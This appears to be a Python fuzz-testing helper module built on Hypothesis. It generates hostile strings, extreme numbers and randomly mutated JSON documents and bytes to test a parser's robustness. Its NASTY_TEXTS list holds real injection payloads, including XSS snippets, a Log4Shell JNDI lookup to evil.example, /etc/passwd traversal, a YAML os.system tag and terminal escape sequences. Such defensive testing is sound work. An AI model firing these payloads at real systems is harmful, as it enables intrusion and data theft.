"""Hostile values, and valid documents that were shaken: those get further than anything random does."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from typing import Any

from hypothesis import strategies as st

NASTY_TEXTS = (
    "", " ", "\0", "a\0b", "\x1b[31mred\x1b[0m", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07", "\u202egnp.exe", "\u2066\u2069", "\ud800", "\udfff\ud800", "\ufeff", "\ufffe",
    "<script>document.title='owned'</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)",
    "]]></script><!--", "{{ 7*7 }}", "${jndi:ldap://evil.example}", "../../../../etc/passwd", "/etc/passwd", "..", ".",
    "a/b", "CON", "x" * 300, "é" * 200, "\n", "\r\n", "a\nb: c", "- x", "&a [*a]", "!!python/object:os.system", "~",
    "null", "NaN", "1e999", "-1", "0", "0x10", "9" * 400, "sha256:" + "0" * 64, "sha256:xyz", "http://[", "http://a:b@c",
    "https://[::1", "//", "Bearer x", "2026-01-01T00:00:00Z", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59.999999999Z",
    "2026-13-45T99:99:99Z", "10Gi", "1e400", "-5", "1e9999999", "5%", "99999%", "٣", "²", "𝟗", "=", ":", "@", "#", "%00",
    "sk-abcdefghijklmnop", "Authorization: Bearer abcdefghijk", "'", '"', "\\", "`", "|", "*",
)  # fmt: skip
NASTY_NUMBERS = (
    0, -1, 1, 2, 2**31, -(2**31) - 1, 2**53 + 1, 2**63, -(2**64), 10**30, 10**400, 0.5, -0.0, 1e308, 1e-320,
    float("inf"), float("-inf"), float("nan"),
)  # fmt: skip


def _deep(levels: int, leaf: Any, *, lists: bool) -> Any:
    for _ in range(levels):
        leaf = [leaf] if lists else {"spec": leaf}
    return leaf


nasty_texts = st.one_of(
    st.sampled_from(NASTY_TEXTS),
    st.text(max_size=12),
    st.text(alphabet="{}[]<>&\"'\\/:;=%-_.*\x00\x1b\u202e", max_size=30),
)
scalars = st.one_of(st.none(), st.booleans(), st.sampled_from(NASTY_NUMBERS), st.integers(), st.floats(), nasty_texts)
nests = st.builds(_deep, st.sampled_from([1, 3, 60, 150, 400]), scalars, lists=st.booleans())
values = st.recursive(
    scalars, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(nasty_texts, inner, max_size=4), max_leaves=12
)
odd_values = st.one_of(scalars, values, nests)


def _places(value: Any) -> list[tuple[Any, Any]]:
    """Every (holder, key or index) in a document."""
    found: list[tuple[Any, Any]] = []
    waiting = [value]
    while waiting:
        one = waiting.pop()
        keys = list(one) if isinstance(one, dict) else range(len(one)) if isinstance(one, list) else ()
        for key in keys:
            found.append((one, key))
            waiting.append(one[key])
    return found


@st.composite
def shaken(draw: st.DrawFn, document: Any, most: int = 4) -> Any:
    """The document with up to `most` changes: a part replaced, left out, doubled, wrapped, moved, or added."""
    whole = {"it": copy.deepcopy(document)}
    for _ in range(draw(st.integers(1, most))):
        places = _places(whole)
        if not places:
            break
        holder, key = places[draw(st.integers(0, len(places) - 1))]
        _change(draw, holder, key, places)
    return whole.get("it")


def _change(draw: st.DrawFn, holder: Any, key: Any, places: list[tuple[Any, Any]]) -> None:
    match draw(
        st.sampled_from(["replace", "replace", "drop", "drop", "double", "wrap", "move", "rename", "add", "text"])
    ):
        case "replace":
            holder[key] = draw(odd_values)
        case "drop":
            del holder[key]
        case "double" if isinstance(holder, list):
            holder.extend([copy.deepcopy(holder[key])] * draw(st.sampled_from([1, 2, 50])))
        case "wrap":
            holder[key] = [holder[key]] if draw(st.booleans()) else {"name": holder[key]}
        case "move":
            other, at = places[draw(st.integers(0, len(places) - 1))]
            if at in other if isinstance(other, dict) else at < len(other):
                holder[key] = copy.deepcopy(other[at])
        case "rename" if isinstance(holder, dict):
            holder[draw(nasty_texts)] = holder.pop(key)
        case "add" if isinstance(holder, dict):
            holder[draw(nasty_texts)] = draw(odd_values)
        case "text" if isinstance(holder[key], str):
            holder[key] = draw(
                st.sampled_from([holder[key] + "\0", holder[key] * 3, holder[key][:-1], "\u202e" + holder[key]])
            )
        case _:
            holder[key] = draw(scalars)


def json_bytes(value: Any) -> bytes:
    """As JSON that a careless writer makes: NaN, Infinity and halves of surrogate pairs are in it as they are."""
    return json.dumps(value).encode()


@st.composite
def shaken_bytes(draw: st.DrawFn, content: bytes, most: int = 4) -> bytes:
    """The bytes with up to `most` changes: some flipped, cut out, doubled or put in."""
    data = bytearray(content)
    for _ in range(draw(st.integers(1, most))):
        at = draw(st.integers(0, len(data)))
        to = min(len(data), at + draw(st.integers(0, 20)))
        match draw(st.sampled_from(["flip", "cut", "tail", "double", "put", "number"])):
            case "flip" if at < len(data):
                data[at] ^= 1 << draw(st.integers(0, 7))
            case "cut":
                del data[at:to]
            case "tail":
                del data[at:]
            case "double":
                data[at:at] = data[at:to] * draw(st.sampled_from([1, 3, 200]))
            case "number":
                data[at:to] = draw(
                    st.sampled_from([b"1e999", b"9" * 5000, b"-0", b"NaN", b"[" * 3000, b'{"a":' * 3000])
                )
            case _:
                data[at:at] = draw(st.binary(max_size=12))
    return bytes(data)


def json_documents(*valid: Any) -> st.SearchStrategy[bytes]:
    """Bodies that should be JSON: shaken documents of `valid`, their shaken bytes, any value, any bytes."""
    shaken_values = st.one_of(*(shaken(one) for one in valid))
    return st.one_of(
        shaken_values.map(json_bytes),
        st.one_of(*(shaken_bytes(json_bytes(one)) for one in valid)),
        odd_values.map(json_bytes),
        st.binary(max_size=200),
        st.sampled_from(
            [b"[" * 100_000, b'{"a":' * 100_000, b"9" * 100_000, b'"' + b"x" * 100_000 + b'"', b"\xff\xfe", b""]
        ),
    )


def mended(outcome: Callable[[], object], *allowed: type[Exception]) -> object | None:
    """What `outcome` gives, or None where it raises what a user may see."""
    try:
        return outcome()
    except allowed:
        return None
